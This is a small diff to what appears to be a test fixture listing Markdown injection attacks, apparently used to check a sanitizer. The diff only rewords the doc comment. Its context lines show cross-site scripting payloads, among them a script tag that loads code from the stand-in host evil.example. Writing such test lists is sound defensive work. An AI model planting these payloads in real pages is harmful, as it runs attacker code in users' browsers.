@@ -1,4 +1,4 @@
-/** Attempts to make Markdown run something, load something or break out of its place. */
+/** Attempts to make Markdown execute code, load resources or break out of its container. */
 export const attacks: readonly string[] = [
   '<script>alert(1)</script>',
   '<ScRiPt src=//evil.example/x.js></sCrIpT>',
